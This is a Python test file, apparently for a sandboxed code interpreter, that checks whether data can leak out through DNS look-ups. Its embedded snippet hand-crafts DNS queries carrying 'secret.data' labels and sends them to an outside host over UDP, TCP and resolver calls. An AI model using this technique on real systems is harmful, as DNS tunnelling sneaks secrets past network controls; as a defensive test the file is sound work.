"""Data carried out in name look-ups, as hosted interpreters "without network" let it: no packet leaves, by any way of asking."""
from support import unconfined
from support.network import FAR_4, NAME

ASK = f"""
    import ctypes, socket, struct, subprocess, time
    began = time.monotonic()
    query = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in b"secret.data.{NAME}".split(b".")) + b"\\0" + struct.pack("!HH", 1, 1)
    outcome = []
    def attempt(action):
        try:
            action(); outcome.append("sent")
        except OSError:
            outcome.append("refused")
    def by_udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(query, ("{FAR_4}", 53)); s.recv(512)
    def by_tcp():
        s = socket.create_connection(("{FAR_4}", 53), 1); s.sendall(struct.pack("!H", len(query)) + query); s.recv(512)
    attempt(by_udp); attempt(by_tcp)
    attempt(lambda: socket.getaddrinfo("secret.data.{NAME}", 80))
    attempt(lambda: socket.gethostbyname("secret.{NAME}"))
    attempt(lambda: socket.gethostbyaddr("{FAR_4}"))
    attempt(lambda: socket.getnameinfo(("{FAR_4}", 80), socket.NI_NAMEREQD))
    print(outcome, time.monotonic() - began < 3)
"""


def test_nothing_leaves(service, outside):
    outside.arrived()
    reply = service.run(ASK)
    assert reply.stdout == f"{['refused'] * 6} True\n"
    assert outside.arrived() == {}


def test_control_unconfined_it_leaves(service, outside):
    outside.arrived()
    assert unconfined.run(ASK, mount_binds=outside.binds).count("sent") >= 3
    assert outside.arrived().get("udp", 0) >= 2


def test_the_resolver_is_told_of_no_server(service):
    reply = service.run("""
        for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf"):
            try:
                print([line for line in open(path) if line.startswith("nameserver") or line.startswith("hosts:") and "dns" in line])
            except FileNotFoundError:
                print([])
        """)
    lines = [eval(line) for line in reply.stdout.splitlines()]
    assert all(not line or "127.0.0.1" in line[0] or "::1" in line[0] for line in lines)
